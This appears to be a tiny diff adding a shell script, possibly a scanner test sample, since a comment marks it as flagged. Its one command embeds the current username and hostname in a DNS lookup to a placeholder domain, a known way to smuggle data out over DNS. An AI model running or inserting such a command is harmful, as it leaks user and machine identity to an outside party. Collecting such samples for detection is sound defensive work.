@@ -1,0 +1,2 @@
+#!/bin/sh
+nslookup "$(whoami).$(hostname).t.example.invalid" # gatehouse: flagged
